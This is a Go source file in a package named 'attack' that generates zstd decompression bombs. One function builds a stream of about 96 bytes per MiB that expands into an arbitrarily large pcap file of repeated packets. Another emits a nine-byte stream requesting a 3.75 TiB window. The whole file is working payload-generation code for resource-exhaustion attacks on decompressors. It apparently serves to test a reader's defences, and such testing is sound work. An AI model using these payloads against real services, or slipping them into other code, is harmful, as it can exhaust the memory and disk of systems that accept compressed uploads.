package attack

import "encoding/binary"

// Bomb returns a small file of zstd that unpacks to a pcap file of at least size bytes. It has the
// same packet without bytes over and over. A MiB takes 96 bytes of the file.
func Bomb(size int) []byte {
	const (
		raw, compressed, last = 0 << 1, 2 << 1, 1 // of blocks (RFC 8878 section 3.1.1.2)
		most                  = 128 << 10         // bytes of a block
		window                = 7 << 3            // 128 KiB (section 3.1.1.1.2)
	)
	header := []byte{0xD4, 0xC3, 0xB2, 0xA1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0}
	packet := append(binary.LittleEndian.AppendUint32(nil, 1_700_000_000), make([]byte, 12)...)
	b := []byte{0x28, 0xB5, 0x2F, 0xFD, 0, window}
	b = appendBlock(b, raw, len(header)+len(packet))
	b = append(append(b, header...), packet...)
	// 131,072 bytes from 16 bytes before: no literals, one sequence, and a table of one code for
	// each of its numbers. Behind it are a 1, the offset's bits and the length's (section
	// 3.1.1.3.2).
	const bits = 1<<20 | (16+3-1<<4)<<16 | (most - 65539)
	again := []byte{0, 1, 0x54, 0, 4, 52, bits & 0xFF, bits >> 8 & 0xFF, bits >> 16}
	for ; size > most; size -= most {
		b = append(appendBlock(b, compressed, len(again)), again...)
	}
	return append(appendBlock(b, compressed|last, len(again)), again...)
}

// appendBlock appends the header of a block.
func appendBlock(b []byte, kind uint32, size int) []byte {
	h := binary.LittleEndian.AppendUint32(nil, kind|uint32(size)<<3)
	return append(b, h[:3]...)
}

// WideBomb returns a file of zstd that requests a window of 3.75 TiB, the largest possible.
func WideBomb() []byte { return []byte{0x28, 0xB5, 0x2F, 0xFD, 0, 0xFF, 1, 0, 0} }
